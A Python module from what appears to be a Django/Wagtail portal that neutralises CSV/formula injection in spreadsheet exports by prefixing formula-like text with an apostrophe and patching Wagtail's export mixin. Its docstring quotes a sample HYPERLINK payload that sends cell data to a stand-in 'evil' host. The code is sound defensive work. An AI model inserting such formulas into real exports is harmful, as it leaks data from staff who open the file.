"""Spreadsheets that are safe to open (OWASP "CSV injection").

A submitter can type text such as ``=HYPERLINK("http://evil/?"&A1,"详情")`` into a case. If a
cell begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before they look), Excel, WPS and LibreOffice may run it as a formula when staff
open the export. :func:`neutralise` is the one place that prevents this: such text gets a
leading apostrophe, which makes it plain text in every spreadsheet program. Every exporter
uses it:

- Every Wagtail download (CSV and XLSX): listings with ``list_export`` and Wagtail's own
  reports (site history, locked and aging pages …) alike. They all write cells through
  ``SpreadsheetExportMixin``, which :func:`guard_wagtail_exports` wraps once at start-up
  (``PortalConfig.ready``): Wagtail's report views cannot be subclassed from a hook, and one
  guard on the shared mixin also covers any listing added later.
- The print-ready ledgers and reports: ``portal.xlsx_print`` neutralises every text cell
  it writes.

Only text changes (control characters, which no spreadsheet can hold, are dropped). Numbers,
dates and booleans are written as they are, so a negative amount stays a number and a date
stays a date. Each value is handled on its own, as it is written, so an export still streams.
"""

import re

from django.utils.functional import Promise

# The characters a spreadsheet may read as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Control characters XML 1.0 (and so XLSX) cannot hold; tab, newline and return are kept.
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def neutralise(value):
    """value unchanged, unless it is text: then without control characters (an export must
    open cleanly) and, if it begins like a formula, "'" + text."""
    if isinstance(value, Promise):  # a lazy translation is text too
        value = str(value)
    if isinstance(value, str):
        value = CONTROL.sub("", value)
        if value.startswith(FORMULA_STARTS):
            return "'" + value
    return value


def guard_wagtail_exports():
    """Make every cell and heading Wagtail exports pass through :func:`neutralise`, after
    Wagtail's own preprocessing (which keeps numbers and dates as they are). Idempotent."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_formula_guard", False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    heading = SpreadsheetExportMixin.get_heading

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(preprocess(self, field, value, export_format))

    def get_heading(self, queryset, field):
        return neutralise(heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
    SpreadsheetExportMixin._formula_guard = True
